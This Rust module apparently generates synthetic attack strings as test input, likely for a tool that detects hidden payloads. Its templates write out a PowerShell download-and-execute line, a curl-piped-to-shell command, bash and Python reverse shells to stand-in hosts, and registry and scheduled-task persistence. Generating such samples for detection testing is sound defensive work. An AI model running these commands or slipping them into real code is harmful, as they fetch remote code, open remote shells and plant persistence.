//! What is hidden: the kind of thing that attackers hide.

use crate::rng::Rng;

/// A script or a command of at least `least` bytes.
pub(crate) fn script(rng: &mut Rng, least: usize) -> String {
    let mut text = line(rng);
    while text.len() < least {
        text.push_str(rng.pick(&["; ", "\n", " && ", "\r\n"]));
        text.push_str(&line(rng));
    }
    text
}

/// One short command.
pub(crate) fn short(rng: &mut Rng) -> String {
    match rng.below(6) {
        0 => "whoami".to_owned(),
        1 => format!("net user {}", rng.word(3, 8)),
        2 => format!("ping {}.com", rng.word(4, 9)),
        3 => "calc.exe".to_owned(),
        4 => "ipconfig /all".to_owned(),
        _ => format!("del {}.log", rng.word(3, 9)),
    }
}

fn line(rng: &mut Rng) -> String {
    let (host, file) = (rng.word(4, 12), rng.word(3, 9));
    let number = rng.below(256);
    match rng.below(12) {
        0 => format!(
            "IEX (New-Object Net.WebClient).DownloadString('http://{host}.example/{file}.ps1')"
        ),
        1 => format!("net user {file} P@ss{number}! /add"),
        2 => format!(
            "Invoke-WebRequest -Uri https://{host}.test/{file} -OutFile C:\\Windows\\Temp\\{file}.exe"
        ),
        3 => format!(
            "$client = New-Object System.Net.Sockets.TCPClient('10.{number}.3.{}',4444)",
            rng.below(256)
        ),
        4 => format!(
            "{{\"host\": \"{host}\", \"id\": {number}, \"task\": [\"{file}\", null, true]}}"
        ),
        5 => format!("curl -s http://{host}.example/{file}.sh | sh"),
        6 => format!("bash -i >& /dev/tcp/192.0.2.{number}/443 0>&1"),
        7 => format!("<script src=\"//{host}.example/{file}.js\"></script>"),
        8 => format!(
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {file} /d {host}.exe"
        ),
        9 => format!(
            "import socket,subprocess;s=socket.socket();s.connect((\"{host}.test\",{number}))"
        ),
        10 => format!("Get-Process {file} | Stop-Process -Force; Start-Sleep {number}"),
        _ => format!("schtasks /create /tn {file} /tr {host}.exe /sc minute /mo {number}"),
    }
}

/// A Windows program as far as its headers tell.
pub(crate) fn program(rng: &mut Rng) -> Vec<u8> {
    let mut bytes = vec![0u8; 0x80];
    bytes[..4].copy_from_slice(b"MZ\x90\0");
    bytes[0x3c] = 0x80;
    bytes[0x4e..0x4e + 39].copy_from_slice(b"This program cannot be run in DOS mode.");
    bytes.extend(b"PE\0\0\x4c\x01\x03\0");
    bytes.extend(rng.bytes(200));
    bytes
}
